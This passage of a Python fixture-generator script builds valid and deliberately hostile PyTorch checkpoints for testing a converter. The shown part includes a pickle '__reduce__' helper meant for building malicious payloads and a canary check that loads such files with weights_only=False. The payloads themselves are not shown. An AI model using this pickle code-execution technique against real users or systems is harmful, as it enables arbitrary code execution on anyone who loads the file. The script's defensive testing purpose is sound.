#!/usr/bin/env python3
"""Generate the checkpoint fixtures used by the torchless converter tests.

Dev-only helper; the Rust tests never run it.  It writes everything under
``tests/fixtures/convert/`` (relative to the repository root, found from this
file's location):

* one checkpoint file per fixture (valid, hostile, corrupt),
* ``expected.json``        -- what the converter must produce / refuse,
* ``casts_expected.json``  -- torch's own F32/F16/BF16 casts of casts.pt,
* ``pickles/``             -- pickle-VM parity files + their expected.json,
* ``README.md``            -- one paragraph per fixture.

Usage (needs torch, transformers, safetensors, numpy)::

    /work/venv/bin/python scripts/make_convert_fixtures.py

Everything is seeded; running it twice yields byte-identical JSON and README
files (torch zip archives embed a random ``.data/serialization_id``, so the
checkpoint files themselves may differ in that record only).

Every valid checkpoint is loaded back with real ``torch.load`` /
``torch.jit.load`` / ``torch.export.load`` / safetensors, and the expected
values are computed from what torch loaded (and compared with the in-memory
originals).  Every malicious fixture that can fire is loaded with
``torch.load(weights_only=False)`` in a subprocess and the script asserts the
canary file appeared.
"""

import builtins
import collections
import hashlib
import importlib
import io
import json
import math
import os
import pickle
import pickletools
import random
import runpy
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import warnings
import zipfile
from pathlib import Path

import numpy as np
import torch
import torch.hub  # noqa: F401  (evil_torch_hub.pt)
import torch.nn as nn

warnings.filterwarnings("ignore")

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "fixtures" / "convert"
PY = sys.executable
ZIP_DATE = (1980, 1, 1, 0, 0, 0)

# --------------------------------------------------------------------------
# generic helpers
# --------------------------------------------------------------------------

ST_DTYPE = {
    torch.float64: "F64",
    torch.float32: "F32",
    torch.float16: "F16",
    torch.bfloat16: "BF16",
    torch.int64: "I64",
    torch.int32: "I32",
    torch.int16: "I16",
    torch.int8: "I8",
    torch.uint8: "U8",
    torch.bool: "BOOL",
    torch.float8_e4m3fn: "F8_E4M3",
    torch.float8_e5m2: "F8_E5M2",
    torch.float8_e4m3fnuz: "F8_E4M3FNUZ",
    torch.float8_e5m2fnuz: "F8_E5M2FNUZ",
    torch.float8_e8m0fnu: "F8_E8M0",
    torch.uint16: "U16",
    torch.uint32: "U32",
    torch.uint64: "U64",
    torch.complex64: "C64",
}

# legacy storage class name -> (element size, byte-swap unit)
STORAGE_ELEM = {
    "DoubleStorage": (8, 8),
    "FloatStorage": (4, 4),
    "HalfStorage": (2, 2),
    "BFloat16Storage": (2, 2),
    "LongStorage": (8, 8),
    "IntStorage": (4, 4),
    "ShortStorage": (2, 2),
    "CharStorage": (1, 1),
    "ByteStorage": (1, 1),
    "BoolStorage": (1, 1),
    "ComplexFloatStorage": (8, 4),  # torch swaps real/imag halves separately
    "ComplexDoubleStorage": (16, 8),
    "UInt16Storage": (2, 2),
    "UInt32Storage": (4, 4),
    "UInt64Storage": (8, 8),
}

EXPECTED: dict[str, dict] = {}
README: list[tuple[str, str]] = []
TORCH_BEHAVIOUR: dict[str, str] = {}


def tensor_bytes(t: torch.Tensor) -> bytes:
    """Logical values of ``t`` as contiguous little-endian bytes."""
    t = t.detach().resolve_conj().resolve_neg().contiguous().clone()
    if t.numel() == 0:
        return b""
    return t.reshape(-1).view(torch.uint8).numpy().tobytes()


def sha(t: torch.Tensor) -> str:
    return hashlib.sha256(tensor_bytes(t)).hexdigest()


def describe(t: torch.Tensor) -> dict:
    return {"dtype": ST_DTYPE[t.dtype], "shape": list(t.shape), "sha256": sha(t)}


def same(a: torch.Tensor, b: torch.Tensor) -> bool:
    return (
        a.dtype == b.dtype
        and tuple(a.shape) == tuple(b.shape)
        and tensor_bytes(a) == tensor_bytes(b)
    )


def assert_same_dicts(a: dict, b: dict, what: str) -> None:
    assert list(a) == list(b), (what, list(a), list(b))
    for k in a:
        assert same(a[k], b[k]), (what, k)


def flatten(obj, prefix: str = ""):
    """(tensors, non-tensor leaf paths) of a nested dict/list/tuple."""
    tensors: dict[str, torch.Tensor] = {}
    others: list[str] = []

    def walk(o, p):
        if isinstance(o, torch.Tensor):
            tensors[p] = o
        elif isinstance(o, dict):
            for k, v in o.items():
                walk(v, f"{p}.{k}" if p else str(k))
        elif isinstance(o, (list, tuple)):
            for i, v in enumerate(o):
                walk(v, f"{p}.{i}" if p else str(i))
        else:
            others.append(p)

    walk(obj, prefix)
    return tensors, others


def add(
    name: str,
    fmt: str,
    description: str,
    tensors: dict[str, torch.Tensor],
    readme: str,
    *,
    key=None,
    dropped=(),
    unsupported=(),
    refuse=None,
    canary=None,
) -> None:
    assert name not in EXPECTED, name
    EXPECTED[name] = {
        "format": fmt,
        "description": description,
        "key": key,
        "tensors": {k: describe(v) for k, v in tensors.items()},
        "dropped": list(dropped),
        "unsupported": list(unsupported),
        "refuse": refuse,
        "canary": canary,
    }
    README.append((name, readme))


def out(name: str) -> Path:
    p = OUT / name
    p.parent.mkdir(parents=True, exist_ok=True)
    if p.exists() and not p.is_dir():
        p.unlink()
    return p


def tload(path, **kw):
    kw.setdefault("weights_only", False)
    return torch.load(path, map_location="cpu", **kw)


def gen(seed: int) -> torch.Generator:
    return torch.Generator().manual_seed(seed)


# ---------------------------------------------------------------- zip helpers


def zip_entries(path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def zip_root(entries) -> str:
    return entries[0][0].split("/", 1)[0]


def write_zip(path, entries, force_zip64: bool = False) -> None:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            zi.compress_type = zipfile.ZIP_STORED
            with z.open(zi, "w", force_zip64=force_zip64) as f:
                f.write(data)


def write_zip64_full(path, entries) -> None:
    """Hand-written zip: zip64 extra in every local AND central header
    (all 32-bit size/offset fields = 0xFFFFFFFF), zip64 end-of-central-dir
    record + locator, and a classic EOCD full of 0xFFFF/0xFFFFFFFF."""
    buf = bytearray()
    central = bytearray()
    dostime = 0
    dosdate = (0 << 9) | (1 << 5) | 1  # 1980-01-01
    for name, data in entries:
        nb = name.encode()
        crc = zipfile.crc32(data) & 0xFFFFFFFF
        off = len(buf)
        extra = struct.pack("<HHQQ", 0x0001, 16, len(data), len(data))
        buf += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 45, 0, 0, dostime, dosdate, crc,
            0xFFFFFFFF, 0xFFFFFFFF, len(nb), len(extra),
        )
        buf += nb + extra + data
        cextra = struct.pack("<HHQQQ", 0x0001, 24, len(data), len(data), off)
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 0, dostime, dosdate,
            crc, 0xFFFFFFFF, 0xFFFFFFFF, len(nb), len(cextra), 0, 0, 0, 0,
            0xFFFFFFFF,
        )
        central += nb + cextra
    cd_off = len(buf)
    buf += central
    z64_off = len(buf)
    n = len(entries)
    buf += struct.pack(
        "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, len(central), cd_off
    )
    buf += struct.pack("<IIQI", 0x07064B50, 0, z64_off, 1)
    buf += struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0
    )
    Path(path).write_bytes(bytes(buf))


def write_torch_zip(path, data_pkl: bytes, storages=(), byteorder: bytes = b"little",
                    extra_records=()) -> None:
    """Write a torch.save-shaped archive with torch's own zip writer."""
    w = torch._C.PyTorchFileWriter(str(path), True, 64)
    w.write_record("data.pkl", data_pkl, len(data_pkl))
    w.write_record(".format_version", b"1", 1)
    w.write_record(".storage_alignment", b"64", 2)
    w.write_record("byteorder", byteorder, len(byteorder))
    for key, data in storages:
        w.write_record(f"data/{key}", data, len(data))
    for name, data in extra_records:
        w.write_record(name, data, len(data))
    w.write_end_of_file()
    del w


# ------------------------------------------------------------- pickle helpers


class Call:
    """Pickles as ``fn(*args)`` -- used to build malicious payloads."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)

    def __call__(self, *a):  # pickle insists the reduce callable is callable
        raise RuntimeError("never called")


class StorageRef:
    def __init__(self, stype, key, numel, location="cpu"):
        self.stype, self.key, self.numel, self.location = stype, key, numel, location


class FakeTensor:
    """Pickles like a tensor (``_rebuild_tensor_v2``) with arbitrary metadata."""

    def __init__(self, storage: StorageRef, offset, size, stride):
        self.storage, self.offset, self.size, self.stride = storage, offset, size, stride

    def __reduce__(self):
        return (
            torch._utils._rebuild_tensor_v2,
            (self.storage, self.offset, tuple(self.size), tuple(self.stride), False,
             collections.OrderedDict()),
        )


class TorchLikePickler(pickle._Pickler):
    """Pure-python pickler emitting torch's persistent-id layout for StorageRef."""

    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            return ("storage", obj.stype, obj.key, obj.location, obj.numel)
        return None


def torch_like_pickle(obj, protocol: int = 2) -> bytes:
    b = io.BytesIO()
    TorchLikePickler(b, protocol).dump(obj)
    return b.getvalue()


class _Dummy:
    def __init__(self, *a, **k):
        pass


class FirstUnsafe(Exception):
    pass


class GlobalProbe(pickle.Unpickler):
    """Unpickles without executing anything; raises at the first global that a
    weights-only loader would not allow."""

    SAFE = {
        ("torch._utils", "_rebuild_tensor_v2"),
        ("torch._utils", "_rebuild_parameter"),
        ("collections", "OrderedDict"),
    }

    def find_class(self, mod, name):
        if (mod, name) == ("collections", "OrderedDict"):
            return collections.OrderedDict
        if (mod, name) in self.SAFE or (mod == "torch" and name.endswith("Storage")):
            return _Dummy
        raise FirstUnsafe(f"{mod}.{name}")

    def persistent_load(self, pid):
        return None


def first_unsafe_global(stream: bytes, n_pickles: int = 1):
    f = io.BytesIO(stream)
    try:
        for _ in range(n_pickles):
            GlobalProbe(f).load()
    except FirstUnsafe as e:
        return str(e)
    return None


class StorageRecorder(pickle.Unpickler):
    """Records the storages (key -> storage class name) a torch pickle uses."""

    def __init__(self, f):
        super().__init__(f)
        self.storages: dict[str, str] = {}

    def find_class(self, mod, name):
        if mod == "torch" and name.endswith("Storage"):
            return name
        if (mod, name) == ("collections", "OrderedDict"):
            return collections.OrderedDict
        return _Dummy

    def persistent_load(self, pid):
        # zip: ('storage', stype, key, location, numel)
        # legacy: ('storage', stype, key, location, numel, view_metadata)
        self.storages[str(pid[2])] = pid[1]
        return None


def byteswap(data: bytes, unit: int) -> bytes:
    if unit == 1:
        return data
    assert len(data) % unit == 0
    return b"".join(data[i:i + unit][::-1] for i in range(0, len(data), unit))


def parse_legacy_stream(data: bytes):
    """Split a legacy (non-zip, non-tar) torch.save stream into its parts."""
    f = io.BytesIO(data)
    pickle.load(f)  # magic number
    pickle.load(f)  # protocol version
    sys_info_start = f.tell()
    sys_info = pickle.load(f)
    sys_info_end = f.tell()
    rec = StorageRecorder(f)
    rec.load()
    keys = pickle.load(f)
    storages = []  # (key, stype, header_offset, numel)
    for key in keys:
        off = f.tell()
        (numel,) = struct.unpack("<q", f.read(8))
        elem, _ = STORAGE_ELEM[rec.storages[str(key)]]
        f.seek(numel * elem, 1)
        storages.append((str(key), rec.storages[str(key)], off, numel))
    assert f.tell() == len(data)
    return sys_info_start, sys_info_end, sys_info, storages


# ------------------------------------------------------------ subprocess probes

PROBE = r"""
import sys, warnings, torch
warnings.filterwarnings("ignore")
try:
    torch.load(sys.argv[1], map_location="cpu", weights_only=False)
    print("RESULT: loads without error")
except BaseException as e:
    print("RESULT: raises " + type(e).__name__)
"""


def torch_probe(path: Path) -> str:
    with tempfile.TemporaryDirectory() as td:
        r = subprocess.run(
            [PY, "-c", PROBE, str(path)], capture_output=True, text=True,
            timeout=600, cwd=td,
        )
    for line in r.stdout.splitlines():
        if line.startswith("RESULT: "):
            return line[len("RESULT: "):]
    return f"crashes the interpreter (exit code {r.returncode})"


def prove_canary(path: Path, canary: str) -> None:
    """Load ``path`` with real torch (weights_only=False) in a subprocess and
    assert that the payload created ``canary``."""
    if os.path.exists(canary):
        os.remove(canary)
    with tempfile.TemporaryDirectory() as td:
        subprocess.run(
            [PY, "-c", PROBE, str(path)], capture_output=True, text=True,
            timeout=600, cwd=td,
        )
    assert os.path.exists(canary), f"canary {canary} did not fire for {path.name}"
    os.remove(canary)


# --------------------------------------------------------------------------
# models
# --------------------------------------------------------------------------


class SmallNet(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 3)
        self.bn = nn.BatchNorm1d(3)
        self.emb = nn.Embedding(5, 4)

    def forward(self, x):
        return self.bn(self.fc(x))


def small_state_dict():
    torch.manual_seed(0)
    m = SmallNet()
    m.train()
    m(torch.randn(6, 4))  # non-trivial running stats, num_batches_tracked = 1
    return m.state_dict()


class WholeNet(nn.Module):
    def __init__(self):
        super().__init__()
        self.encoder = nn.Sequential(nn.Linear(4, 4, bias=False), nn.Tanh())
        self.head = nn.Linear(4, 2)
        self.register_buffer("mean", torch.linspace(-1, 1, 4))
        self.register_buffer("cache", torch.full((3,), 9.0), persistent=False)
        self.extra = torch.arange(3.0)  # plain attribute, not registered

    def forward(self, x):
        return self.head(self.encoder(x - self.mean))


class TSInner(nn.Module):
    def __init__(self):
        super().__init__()
        self.seq = nn.Sequential(nn.Linear(4, 4), nn.ReLU(), nn.Linear(4, 2))
        self.register_buffer("running", torch.randn(2))

    def forward(self, x):
        return self.seq(x) + self.running


class TSNet(nn.Module):
    count: int

    def __init__(self):
        super().__init__()
        self.block = TSInner()
        self.head = nn.Linear(2, 2)
        self.register_buffer("persistent_buf", torch.arange(2, dtype=torch.int64))
        self.register_buffer("scratch", torch.ones(2), persistent=False)
        self.count = 7

    def forward(self, x):
        y = self.head(self.block(x)) * self.count
        return y + self.persistent_buf.to(y.dtype) + self.scratch


class TiedNet(nn.Module):
    def __init__(self):
        super().__init__()
        self.emb = nn.Embedding(6, 4)
        self.proj = nn.Linear(4, 6, bias=False)
        self.proj.weight = self.emb.weight  # tied
        self.register_buffer("scale", torch.tensor([1.0, 2.0, 3.0, 4.0]))

    def forward(self, idx):
        return self.proj(self.emb(idx) * self.scale)


class TrainNet(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 3)
        self.out = nn.Linear(3, 2)

    def forward(self, x):
        return self.out(torch.relu(self.fc(x)))


# --------------------------------------------------------------------------
# valid fixtures
# --------------------------------------------------------------------------

SMALL_README = (
    "`SmallNet` = Linear(4,3) `fc` + BatchNorm1d(3) `bn` (one training forward, so "
    "running stats are non-trivial and `num_batches_tracked` is an int64 0-dim "
    "tensor) + Embedding(5,4) `emb`; seed 0"
)


def make_zip_state_dicts():
    sd = small_state_dict()
    p = out("zip_state_dict.pt")
    torch.save(sd, p)
    loaded = tload(p, weights_only=True)
    assert_same_dicts(sd, loaded, p.name)
    add("zip_state_dict.pt", "zip", "state_dict of SmallNet, default torch.save",
        loaded,
        f"State dict of {SMALL_README}, written with plain `torch.save` (zip "
        "format, pickle protocol 2, root folder `zip_state_dict/`).")

    for proto in range(1, 6):
        name = f"zip_protocol_{proto}.pt"
        p = out(name)
        torch.save(sd, p, pickle_protocol=proto)
        loaded = tload(p)
        assert_same_dicts(sd, loaded, name)
        add(name, "zip", f"SmallNet state_dict saved with pickle_protocol={proto}",
            loaded,
            f"Same state dict as `zip_state_dict.pt` saved with "
            f"`torch.save(..., pickle_protocol={proto})`"
            + (" (protocol 1 writes booleans as the text opcode `I00`/`I01`, "
               "which even torch's weights_only loader rejects; the file loads "
               "with weights_only=False)." if proto == 1 else
               " (protocol 4/5 use FRAME, SHORT_BINUNICODE, STACK_GLOBAL and "
               "MEMOIZE)." if proto >= 4 else ".")
            + " Protocol 0 cannot be used with torch.save (persistent ids are "
            "tuples).")

    buf = io.BytesIO()
    torch.save(sd, buf)
    p = out("zip_bytesio_root.pt")
    p.write_bytes(buf.getvalue())
    assert zip_root(zip_entries(p)) == "archive"
    loaded = tload(p, weights_only=True)
    assert_same_dicts(sd, loaded, p.name)
    add("zip_bytesio_root.pt", "zip", "saved to io.BytesIO, zip root folder 'archive'",
        loaded,
        "Same state dict saved into an `io.BytesIO` and written out verbatim; "
        "torch names the root folder inside the zip `archive/` in that case.")

    entries = zip_entries(OUT / "zip_state_dict.pt")
    root = zip_root(entries)
    odd = "my model v2"
    renamed = [(odd + n[len(root):], d) for n, d in entries]
    p = out("zip_odd_root.pt")
    write_zip(p, renamed)
    loaded = tload(p, weights_only=True)
    assert_same_dicts(sd, loaded, p.name)
    add("zip_odd_root.pt", "zip", "zip root folder renamed to 'my model v2'", loaded,
        "`zip_state_dict.pt` re-zipped with Python's zipfile (all entries STORED, "
        "no 64-byte alignment any more) after renaming the root folder to "
        "`my model v2/` (contains spaces). torch.load still loads it: the root "
        "folder name is whatever precedes the first `/` of the first entry.")

    p = out("zip64.pt")
    write_zip(p, entries, force_zip64=True)
    loaded = tload(p, weights_only=True)
    assert_same_dicts(sd, loaded, p.name)
    add("zip64.pt", "zip", "zip64 local headers on every entry (Python zipfile force_zip64)",
        loaded,
        "`zip_state_dict.pt` re-zipped with Python's zipfile using "
        "`zf.open(name, 'w', force_zip64=True)` and ZIP_STORED: every local file "
        "header has sizes 0xFFFFFFFF and a zip64 extra field holding the real "
        "sizes. (Python only writes zip64 data into the local headers; the "
        "central directory stays classic -- see `zip64_full.pt` for the other "
        "half.) torch.load loads it.")

    p = out("zip64_full.pt")
    write_zip64_full(p, entries)
    with zipfile.ZipFile(p) as z:
        assert z.testzip() is None
    loaded = tload(p, weights_only=True)
    assert_same_dicts(sd, loaded, p.name)
    add("zip64_full.pt", "zip", "hand-written zip64: zip64 extras in local and central headers, zip64 EOCD",
        loaded,
        "Extra fixture. `zip_state_dict.pt`'s entries written by a small "
        "hand-written zip writer in the script: every local AND central "
        "directory header has its 32-bit size/offset fields set to 0xFFFFFFFF "
        "with a zip64 extra field (0x0001) carrying the real values, followed "
        "by a zip64 end-of-central-directory record, its locator, and a classic "
        "EOCD whose counts/size/offset are all 0xFFFF/0xFFFFFFFF. Python's "
        "zipfile and torch.load both read it.")
    return sd


def make_single_tensor():
    t = torch.randn(3, 4, generator=gen(5))
    p = out("single_tensor.pt")
    torch.save(t, p)
    loaded = tload(p, weights_only=True)
    assert same(t, loaded)
    add("single_tensor.pt", "zip", "the pickled root is a single tensor (named `tensor`)",
        {"tensor": loaded},
        "`torch.save(torch.randn(3, 4))`: the root object is a bare tensor, "
        "which the converter names `tensor`.")


def legacy_stream_obj():
    g = gen(11)
    base = torch.randn(3, 4, generator=g)
    return {
        "base": base,
        "base_t": base.t(),          # non-contiguous view of base's storage
        "row1": base[1],             # shares base's storage, offset 4
        "x64": torch.randn(2, 2, generator=g, dtype=torch.float64),
        "half": torch.randn(5, generator=g).to(torch.float16),
        "idx": torch.tensor([3, -1, 2**40], dtype=torch.int64),
    }


def make_legacy_stream():
    obj = legacy_stream_obj()
    p = out("legacy_stream.pt")
    torch.save(obj, p, _use_new_zipfile_serialization=False)
    loaded = tload(p)
    assert loaded["base"].untyped_storage().data_ptr() == loaded["row1"].untyped_storage().data_ptr()
    assert not loaded["base_t"].is_contiguous()
    assert_same_dicts(obj, loaded, p.name)
    add("legacy_stream.pt", "legacy",
        "legacy (pre-1.6) pickle stream with a transposed view and shared storages",
        loaded,
        "`torch.save(obj, _use_new_zipfile_serialization=False)` of a dict with "
        "a 3x4 float32 `base`, `base_t = base.t()` (non-contiguous view), "
        "`row1 = base[1]` (same storage, offset 4), a float64, a float16 and an "
        "int64 tensor. Legacy stream layout: pickle(magic) pickle(1001) "
        "pickle(sys_info) main pickle, pickle(list of storage keys), then per "
        "storage an int64 element count and the raw little-endian bytes.")
    return obj


def make_legacy_tar():
    g = gen(12)
    s_float = torch.randn(12, generator=g)            # storage 1000
    s_double = torch.randn(6, generator=g, dtype=torch.float64)  # storage 1001
    s_long = torch.tensor([5, -6, 7, 2**33, -(2**50)], dtype=torch.int64)  # 1002
    storages = [
        (1000, "FloatStorage", torch.FloatStorage, s_float),
        (1001, "DoubleStorage", torch.DoubleStorage, s_double),
        (1002, "LongStorage", torch.LongStorage, s_long),
    ]
    views = [(1003, 1000, 4, 6)]  # storage view: elements 4..9 of 1000
    # key, storage id, dtype tag, sizes, strides, offset
    tensors = [
        (0, 1000, torch.FloatTensor, (3, 4), (4, 1), 0),
        (1, 1000, torch.FloatTensor, (4, 3), (1, 4), 0),   # strided (transpose)
        (2, 1000, torch.FloatTensor, (4,), (1,), 8),       # same storage, offset
        (3, 1003, torch.FloatTensor, (2, 3), (3, 1), 0),   # on a storage view
        (4, 1001, torch.DoubleTensor, (2, 3), (3, 1), 0),
        (5, 1002, torch.LongTensor, (5,), (1,), 0),
        (6, 1002, torch.LongTensor, (), (), 3),            # 0-dim
    ]
    names = ["weight", "weight_t", "row2", "viewed", "double", "long", "scalar"]

    sbuf = io.BytesIO()
    pickle.dump(len(storages), sbuf, protocol=2)
    for key, _, cls, t in storages:
        pickle.dump((key, "cpu", cls), sbuf, protocol=2)
        sbuf.write(struct.pack("<q", t.numel()))
        sbuf.write(tensor_bytes(t))
    pickle.dump(views, sbuf, protocol=2)

    tbuf = io.BytesIO()
    pickle.dump(len(tensors), tbuf, protocol=2)
    for key, sid, ttype, size, stride, off in tensors:
        pickle.dump((key, sid, ttype), tbuf, protocol=2)
        tbuf.write(struct.pack("<i", len(size)) + b"\0\0\0\0")
        tbuf.write(struct.pack(f"<{len(size)}q", *size))
        tbuf.write(struct.pack(f"<{len(stride)}q", *stride))
        tbuf.write(struct.pack("<q", off))

    class P(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, TensorKey):
                return str(obj.key)
            return None

    class TensorKey:
        def __init__(self, key):
            self.key = key

    pbuf = io.BytesIO()
    P(pbuf, protocol=2).dump({n: TensorKey(t[0]) for n, t in zip(names, tensors)})

    sys_info = pickle.dumps(
        {"protocol_version": 1001, "little_endian": True,
         "type_sizes": {"short": 2, "int": 4, "long": 8}}, protocol=2)

    p = out("legacy_tar.pt")
    with tarfile.open(p, "w", format=tarfile.PAX_FORMAT) as tar:
        for mname, data in [("sys_info", sys_info), ("pickle", pbuf.getvalue()),
                            ("tensors", tbuf.getvalue()), ("storages", sbuf.getvalue())]:
            ti = tarfile.TarInfo(mname)
            ti.size = len(data)
            ti.mtime = 0
            ti.mode = 0o644
            tar.addfile(ti, io.BytesIO(data))

    loaded = tload(p)
    want = {
        "weight": s_float.view(3, 4),
        "weight_t": s_float.view(3, 4).t(),
        "row2": s_float[8:12],
        "viewed": s_float[4:10].view(2, 3),
        "double": s_double.view(2, 3),
        "long": s_long,
        "scalar": s_long[3],
    }
    assert_same_dicts(want, loaded, p.name)
    assert loaded["weight"].untyped_storage().data_ptr() == loaded["weight_t"].untyped_storage().data_ptr()
    add("legacy_tar.pt", "tar",
        "hand-built pre-0.1.10 tar checkpoint (strided tensor, shared storage, storage view, 0-dim)",
        loaded,
        "Built by hand following `torch/serialization.py::_legacy_load`: an "
        "uncompressed tar (PAX, mtime 0) with members `sys_info`, `pickle`, "
        "`tensors`, `storages`. `storages` = pickle(3), then per storage "
        "pickle((key, 'cpu', torch.XStorage)) + int64 element count + raw bytes "
        "(keys 1000 float32x12, 1001 float64x6, 1002 int64x5), then "
        "pickle([(1003, 1000, 4, 6)]) -- one storage view = elements 4..9 of "
        "1000. `tensors` = pickle(7), then per tensor pickle((key, storage_id, "
        "torch.XTensor)) + int32 ndim + 4 pad bytes + ndim int64 sizes + ndim "
        "int64 strides + int64 storage offset. `pickle` = the dict {name: "
        "persistent id str(tensor key)}. Tensors: `weight` 3x4, `weight_t` its "
        "transpose (strides 1,4), `row2` offset 8 on the same storage, `viewed` "
        "2x3 on the storage view, `double`, `long`, and 0-dim `scalar` (offset "
        "3). Loads with `torch.load(weights_only=False)`.")


def make_legacy_big_endian(legacy_obj):
    src = (OUT / "legacy_stream.pt").read_bytes()
    s0, s1, sys_info, storages = parse_legacy_stream(src)
    assert sys_info["little_endian"] is True
    sys_info = dict(sys_info)
    sys_info["little_endian"] = False
    new_sys = pickle.dumps(sys_info, protocol=2)
    data = bytearray(src[:s0] + new_sys + src[s1:])
    delta = len(new_sys) - (s1 - s0)
    for key, stype, off, numel in storages:
        off += delta
        elem, unit = STORAGE_ELEM[stype]
        data[off:off + 8] = struct.pack(">q", numel)
        body = bytes(data[off + 8:off + 8 + numel * elem])
        data[off + 8:off + 8 + numel * elem] = byteswap(body, unit)
    p = out("legacy_big_endian.pt")
    p.write_bytes(bytes(data))
    behaviour = torch_probe(p)
    TORCH_BEHAVIOUR[p.name] = behaviour
    loaded = tload(OUT / "legacy_stream.pt")
    assert_same_dicts(legacy_obj, loaded, "legacy_stream.pt")
    add("legacy_big_endian.pt", "legacy",
        "legacy stream written as a big-endian machine would (sys_info little_endian=False)",
        loaded,
        "`legacy_stream.pt` rewritten by the script: `sys_info['little_endian']` "
        "set to False and, for every storage, the int64 element-count header and "
        "every element byte-swapped (by element size; complex would swap each "
        "half). This is what the legacy format looks like when written on a "
        "big-endian host. torch ignores the `little_endian` flag when reading, "
        f"so it cannot load this file (torch.load {behaviour}). The expected "
        "values are those of the original little-endian `legacy_stream.pt`.")


def make_zip_big_endian():
    g = gen(13)
    obj = {
        "f32": torch.randn(2, 3, generator=g),
        "f64": torch.randn(3, generator=g, dtype=torch.float64),
        "f16": torch.randn(4, generator=g).half(),
        "bf16": torch.randn(4, generator=g).bfloat16(),
        "i64": torch.tensor([1, -2, 2**40], dtype=torch.int64),
        "i32": torch.tensor([1, -2, 2**30], dtype=torch.int32),
        "i16": torch.tensor([1, -2, 2**14], dtype=torch.int16),
        "u8": torch.tensor([0, 1, 255], dtype=torch.uint8),
        "bool": torch.tensor([True, False, True]),
        "c64": torch.randn(3, generator=g, dtype=torch.complex64),
    }
    tmp = io.BytesIO()
    torch.save(obj, tmp)
    entries = zip_entries(io.BytesIO(tmp.getvalue()))
    root = zip_root(entries)
    rec = StorageRecorder(io.BytesIO(dict(entries)[f"{root}/data.pkl"]))
    rec.load()
    new = []
    for name, data in entries:
        rel = name[len(root) + 1:]
        if rel == "byteorder":
            data = b"big"
        elif rel.startswith("data/"):
            _, unit = STORAGE_ELEM[rec.storages[rel[5:]]]
            data = byteswap(data, unit)
        new.append((name.replace(root, "zip_big_endian", 1), data))
    p = out("zip_big_endian.pt")
    write_zip(p, new)
    loaded = tload(p, weights_only=True)
    assert_same_dicts(obj, loaded, p.name)  # torch byte-swaps on load
    add("zip_big_endian.pt", "zip",
        "zip checkpoint with byteorder record 'big' and byte-swapped storages",
        loaded,
        "A dict of f32/f64/f16/bf16/i64/i32/i16/u8/bool/complex64 tensors saved "
        "with torch.save, then re-zipped (STORED) with the `byteorder` record "
        "set to `big` and every `data/N` storage byte-swapped per element "
        "(complex64 is swapped as two float32 halves, exactly like torch's "
        "`UntypedStorage.byteswap`). torch.load byte-swaps it back and yields "
        "the original values (asserted).")


def make_torchscript():
    torch.manual_seed(21)
    m = TSNet()
    sm = torch.jit.script(m)
    p = out("torchscript.pt")
    torch.jit.save(sm, str(p))
    loaded = torch.jit.load(str(p)).state_dict()
    assert_same_dicts(sm.state_dict(), loaded, p.name)
    # TorchScript does not keep the `persistent=False` flag: scratch is included
    assert "scratch" in loaded and "scratch" not in m.state_dict()
    add("torchscript.pt", "torchscript",
        "torch.jit.save of a scripted module with nested Sequential, buffers and an int attribute",
        dict(loaded),
        "`torch.jit.save(torch.jit.script(TSNet()))`: `block` (TSInner: `seq` = "
        "Sequential(Linear(4,4), ReLU, Linear(4,2)) + buffer `running`), `head` "
        "Linear(2,2), persistent int64 buffer `persistent_buf`, non-persistent "
        "buffer `scratch` and a plain `int` attribute `count = 7`. Expected "
        "tensors = `torch.jit.load(file).state_dict()`, which -- unlike the "
        "eager module's state_dict -- includes the non-persistent `scratch` "
        "(TorchScript does not keep the persistent flag; it is stored like any "
        "other buffer). `count` is a plain int attribute in the module's "
        "pickled state.")


def make_export():
    torch.manual_seed(22)
    m = TiedNet()
    ep = torch.export.export(m, (torch.tensor([[0, 1, 2]]),))
    p = out("export.pt2")
    torch.export.save(ep, str(p))
    ep2 = torch.export.load(str(p))
    sd = dict(ep2.state_dict)
    assert_same_dicts(dict(ep.state_dict), sd, p.name)
    add("export.pt2", "pt2",
        "torch.export.save of a module with a tied weight and a buffer",
        sd,
        "`torch.export.save(torch.export.export(TiedNet(), (idx,)))`: Embedding(6,4) "
        "`emb` whose weight Parameter is also `proj.weight` (Linear(4,6, "
        "bias=False)), and a persistent buffer `scale`. The archive stores the "
        "tied weight once (`data/weights/weight_N` + "
        "`model_weights_config.json`); expected tensors = the loaded "
        "program's `state_dict` (`emb.weight`, `proj.weight`, `scale`).")


def make_whole_module():
    torch.manual_seed(23)
    m = WholeNet()
    p = out("whole_module.pt")
    torch.save(m, p)
    loaded = tload(p)
    sd = loaded.state_dict()
    assert_same_dicts(m.state_dict(), sd, p.name)
    assert "cache" not in sd and "extra" not in sd
    add("whole_module.pt", "zip",
        "torch.save of a whole nn.Module (__main__.WholeNet)", dict(sd),
        "`torch.save(model)` of a whole `__main__.WholeNet` module: `encoder` = "
        "Sequential(Linear(4,4,bias=False) [so `_parameters['bias']` is None], "
        "Tanh), `head` Linear(4,2), persistent buffer `mean`, non-persistent "
        "buffer `cache` (not in the expected tensors) and a plain, unregistered "
        "tensor attribute `extra` (listed under `dropped`). Expected = "
        "`model.state_dict()`. Loading it needs the class, i.e. an unpickler "
        "that builds `__main__.WholeNet` objects without importing anything.",
        dropped=["extra"])


def make_training_checkpoint():
    torch.manual_seed(24)
    model = TrainNet()
    adam = torch.optim.Adam(model.parameters(), lr=1e-2)
    x = torch.randn(8, 4)
    loss = model(x).pow(2).mean()
    loss.backward()
    adam.step()
    g = gen(25)
    ckpt = {
